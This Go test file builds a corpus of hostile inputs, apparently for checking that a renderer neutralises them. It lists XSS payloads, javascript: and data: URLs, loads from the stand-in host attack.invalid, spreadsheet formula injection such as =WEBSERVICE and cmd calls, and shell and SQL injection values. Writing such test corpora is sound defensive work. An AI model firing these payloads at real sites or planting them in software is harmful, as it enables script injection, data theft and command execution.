package main

import (
	"fmt"
	"html"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// What is known of how text becomes a script, by class: OWASP's filter evasion
// list, mutation by the HTML parser, foreign content, template languages, what
// ends the places that texts are written to (attributes, comments, CDATA,
// scripts, JSON, XML), and characters that programs read in different ways. A
// string that runs calls alert(1), or asks attack.invalid.

// markup are tags and what is left of them.
var markup = []string{
	`<script>alert(1)</script>`, `<ScRiPt>alert(1)</sCrIpT>`, `<script src=//attack.invalid/a.js></script>`,
	`<script/x>alert(1)</script>`, "<script\n>alert(1)</script\n>", `<<script>alert(1)//<</script>`, `<script>alert(1)`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, "<scr\x00ipt>alert(1)</scr\x00ipt>", `<script type=module>alert(1)</script>`,
	`<script>alert(1)<!--`, `<script charset="\x22>">alert(1)</script>`, `<SCRIPT SRC=data:text/javascript,alert(1)></SCRIPT>`,
	`<img src=x onerror=alert(1)>`, `<img src=x onerror="alert(1)"`, `<img/src=x/onerror=alert(1)>`, "<img\tsrc=x\nonerror=alert(1)>",
	`<img """><script>alert(1)</script>">`, `<img src=x onerror=&#97;lert(1)>`, `<img src="x:x" onerror="alert(1)" alt='`, "<img src=x onerror=`alert(1)`>",
	`<img src=//attack.invalid/p.png>`, `<img srcset="//attack.invalid/p.png 1x">`, `<image src=x onerror=alert(1)>`, `<img src=x:alert(1) onerror=eval(src)>`,
	`<svg onload=alert(1)>`, `<svg/onload=alert(1)//`, `<svg><script>alert(1)</script></svg>`, `<svg><script>alert&#40;1&#41;</script>`,
	`<svg><script href="data:,alert(1)"/></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:alert(1)><a>x</a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg></p><style><g title="</style><img src=x onerror=alert(1)>">`,
	`<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`, `<svg><desc><script>alert(1)</script></desc></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`, `<math href="javascript:alert(1)">x</math>`,
	`<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
	`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`,
	`<table><td><noembed><img src="</noembed><img src=x onerror=alert(1)>">`, `<xmp><p title="</xmp><svg/onload=alert(1)>">`,
	`<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">`,
	`<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, `<plaintext><img src=x onerror=alert(1)>`, `<textarea></textarea><script>alert(1)</script>`,
	`<title></title><script>alert(1)</script>`, `<style>*{background:url(//attack.invalid/c)}</style>`, `<style>@import'//attack.invalid/s.css';</style>`,
	`<style>@import'//attack.invalid/s.css`, `<link rel=stylesheet href=//attack.invalid/s.css>`, `<link rel=prefetch href=//attack.invalid/x>`, `<link rel=import href="data:text/html,<script>alert(1)</script>">`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<meta http-equiv="refresh" content="0; url=//attack.invalid/">`, `<base href="//attack.invalid/">`, `<base href="javascript:alert(1)//">`,
	`<iframe src="javascript:alert(1)">`, `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">`, `<iframe src=//attack.invalid/>`, `<frameset onload=alert(1)>`, `<frame src="javascript:alert(1)">`,
	`<object data="javascript:alert(1)">`, `<object data="data:text/html,<script>alert(1)</script>">`, `<embed src="javascript:alert(1)">`, `<applet code=x onerror=alert(1)>`,
	`<body onload=alert(1)>`, `<body background="//attack.invalid/b">`, `<html onmouseover=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<input type=image src=//attack.invalid/i formaction=javascript:alert(1)>`,
	`<button formaction="javascript:alert(1)">x</button>`, `<form action="javascript:alert(1)"><input type=submit></form>`, `<isindex type=image src=1 onerror=alert(1)>`,
	`<video src=x onerror=alert(1)>`, `<video><source onerror=alert(1)>`, `<video poster=//attack.invalid/v>`, `<audio src=//attack.invalid/a autoplay onerror=alert(1)>`, `<track src=x onerror=alert(1)>`,
	`<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=alert(1)>x</marquee>`, `<dialog open onclose=alert(1)>`, `<keygen autofocus onfocus=alert(1)>`, `<xss onpointerrawupdate=alert(1) style=animation-name:x>`,
	`<div style="background:url(//attack.invalid/d)">x</div>`, `<div style="width:expression(alert(1))">x</div>`, `<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>`, `<p style='-moz-binding:url("//attack.invalid/m")'>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href=" javascript:alert(1)" target=_blank>x</a>`, `<a onclick=alert(1) href=#>x</a>`, `<a ping=//attack.invalid/ href=#>x</a>`, `<a href='//attack.invalid/' style='position:fixed;inset:0'>`,
	`<map><area href="javascript:alert(1)"></map>`, `<portal src=//attack.invalid/>`, `<custom-element onclick=alert(1)>x</custom-element>`, `<x contenteditable onblur=alert(1)>x</x>`, `<slot name=x onslotchange=alert(1)>`,
	`<!--><script>alert(1)</script>-->`, `<!-- --!><script>alert(1)</script>`, `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<![CDATA[><script>alert(1)</script>]]>`, `<?xml version="1.0"?><script>alert(1)</script>`, `<? foo="><script>alert(1)</script>">`,
	`<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;`, `<% alert(1) %>`, `</ <script>alert(1)</script>`, `</main></body></html><script>alert(1)</script>`, `</div></main><footer class=colophon>`, `<main id=main>`, `<h1>Other</h1>`,
	`<b><i></b>x</i>`, `</p></li></ul></section>`, `<table><tr><td>`, `<pre><code>`, `<p id=main><p name=body><img name=getElementById>`, `<a id=atlasSearch><a id=atlasSearch name=names>`, `<form name=location>`,
}

// enders end the place where a text is written.
var enders = []string{
	`"><script>alert(1)</script>`, `'><script>alert(1)</script>`, "`><script>alert(1)</script>", `" onmouseover="alert(1)`, `' onmouseover='alert(1)`, ` onmouseover=alert(1) `, `" autofocus onfocus=alert(1) x="`, `"/><svg onload=alert(1)>`,
	`</script><script>alert(1)</script>`, `</script x><script>alert(1)</script>`, `<!--<script>`, `<!--<script></script>`, `--></script><script>alert(1)</script>`, `"};alert(1);//`, `\"};alert(1);//`, `']);alert(1);//`, `"]);alert(1);([["`, `\u003c/script>`, `\x3cscript>alert(1)`,
	"\u2028alert(1)\u2029", "a\u2028\"]);alert(1)//", `\`, `\\"`, "\r\nalert(1)", `*/alert(1)/*`, `//`, `${alert(1)}`, "`${alert(1)}`", `__proto__`, `constructor`, `toString`, `hasOwnProperty`,
	`</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `</style><script>alert(1)</script>`, `</noscript><img src=x onerror=alert(1)>`, `</svg><script>alert(1)</script>`, `</text></a></svg><img src=x onerror=alert(1)>`,
	`]]>`, `]]><script>alert(1)</script>`, `-->`, `--!><img src=x onerror=alert(1)>`, `?>`, `&`, `&amp;`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&amp;lt;script&amp;gt;alert(1)`, `&quot; onclick=alert(1)`, `&nosuch;`, `&#0;`, `&#xD800;`, `&#x110000;`, `&#1;`,
	`{{.}}`, `{{printf "%s" .}}`, `{{template "main" .}}`, `{{define "main"}}x{{end}}`, `{%raw%}`, `{{constructor.constructor('alert(1)')()}}`, `<%= 7*7 %>`, `#{alert(1)}`, `{{< script >}}`, `[[${alert(1)}]]`,
	`=cmd|' /C calc'!A0`, `=HYPERLINK("http://attack.invalid/?x="&A1,"x")`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)`, "\t=1+1", `＝1+1`, ` =1+1`, `"=1+1`, `;=1+1`, `甲;=WEBSERVICE("http://attack.invalid/")`,
	"%0a%0dSet-Cookie:x=1", "%00", "%3Cscript%3Ealert(1)%3C/script%3E", "../../../etc/passwd", `..\..\x`, "a/b", `C:\x`, "CON", ".", "..", "#b1", "?q=1", "$(touch x)", "`touch x`", "; rm -rf x", "| x", "%s%n%d", "' OR 1=1 --",
}

// odd are characters that programs read differently.
var odd = []string{
	"a\u202e<script>alert(1)</script>", "\u202etpircs\u202c", "\u2066x\u2069\u202d", "\u200bjava\u200bscript", "\ufeffx", "a\u0000b", "a\u0008b", "a\u001bb[31m", "a\u007fb", "a\u0085b", "a\ufffeb", "a\ufdd0b", "а\u0440ple（西里尔）", "ｊavascript：alert(1)", "＜script＞alert(1)＜/script＞",
	"ʼ><script>alert(1)</script>", "＂ onclick=alert(1)", "‹script›alert(1)", "İſK", "ﷺﷺﷺ", "Z͑ͫ̓͑̈́͏̸̡̼a͑lgo", "👨‍👩‍👧‍👦", "\U000E0001x\U000E007F", strings.Repeat("甲", 400), strings.Repeat("<b>", 200), strings.Repeat("\u0301", 100), "\u3000", "　x　", "中\u00a0国",
}

// addresses are URLs that no page may lead to or load.
var addresses = []string{
	`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, ` javascript:alert(1)`, "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)", "\x01javascript:alert(1)", "\x00javascript:alert(1)", "javascript\t:alert(1)", "java\x00script:alert(1)", "\u00a0javascript:alert(1)", "\u2028javascript:alert(1)",
	`javascript&colon;alert(1)`, `javascript&#58;alert(1)`, `javascript&#x3A;alert(1)`, `javascript&#0000058alert(1)`, `&#106;avascript:alert(1)`, `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29`, `java&Tab;script:alert(1)`, `java&NewLine;script:alert(1)`, `&#1;javascript:alert(1)`, `java&#10;script:alert(1)`,
	`javascript%3Aalert(1)`, `%6aavascript:alert(1)`, `javascript://%0aalert(1)`, `javascript://attack.invalid/%0aalert(1)`, `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`, `view-source:javascript:alert(1)`, `feed:javascript:alert(1)`, `jar:javascript:alert(1)!/`, `livescript:alert(1)`, `mocha:alert(1)`,
	`vbscript:msgbox(1)`, `VBSCRIPT:msgbox(1)`, `data:text/html,<script>alert(1)</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `DATA:text/html,x`, `data:image/svg+xml,<svg onload=alert(1)>`, `data:,x`, `blob:x`, `file:///etc/passwd`, `file://attack.invalid/share/x.png`, `filesystem:x`, `about:blank`, `chrome://settings`, `ms-word:ofe|u|//attack.invalid/x`, `search-ms:query=x`, `ws://attack.invalid/`, `x:alert(1)`,
	`//attack.invalid/x`, `\\attack.invalid\share\x.png`, `/\attack.invalid/x`, `\/attack.invalid/x`, "/\t/attack.invalid/x", "/\n/attack.invalid", `///attack.invalid/x`, `http:/\attack.invalid`, `http:attack.invalid`, `https:////attack.invalid`, `%2f%2fattack.invalid`, `.//attack.invalid`, `..//..//attack.invalid`, `//attack。invalid/x`, `http://attack.invalid\@example.org/`, `http://example.org@attack.invalid/`, `http://attack.invalid/"onmouseover="alert(1)`, `http://attack.invalid/'><script>alert(1)</script>`, `http://[::1`, `http://%zz/`, `http://a b/`, `http://xn--80ak6aa92e.invalid/`,
	`x.md" onerror="alert(1)`, `x.png' onerror='alert(1)`, `x.png?a=<script>alert(1)</script>`, `#"><script>alert(1)</script>`, `#javascript:alert(1)`, `?javascript:alert(1)`, `../../../../../etc/passwd`, `/etc/passwd`, `source.html`, `facts.json`, `.`, `..`, ``, ` `, `<>`, `<javascript:alert(1)>`,
}

// hostileStrings gives every string once: what is above, and each tag and each
// address in further encodings.
func hostileStrings(t *testing.T) []string {
	var list []string
	seen := map[string]bool{}
	add := func(s string) {
		if !seen[s] && strings.TrimSpace(s) != "" {
			seen[s] = true
			list = append(list, s)
		}
	}
	for _, s := range slices.Concat(markup, enders, odd, addresses) {
		add(s)
	}
	for i, s := range markup {
		switch i % 4 {
		case 0:
			add(html.EscapeString(s))
		case 1:
			add("甲" + strings.ReplaceAll(s, " ", "/") + "乙")
		case 2:
			add(url.QueryEscape(s))
		case 3:
			add(strings.NewReplacer("<", `\u003c`, ">", `\u003e`).Replace(s))
		}
		add(`"` + s)
	}
	for i, s := range addresses {
		switch i % 3 {
		case 0:
			add(fmt.Sprintf("[链](%s)", s))
		case 1:
			add(fmt.Sprintf("![图](<%s>)", s))
		case 2:
			add(fmt.Sprintf("<%s>", s))
		}
	}
	if len(list) < 500 {
		t.Fatalf("only %d strings", len(list))
	}
	return list
}
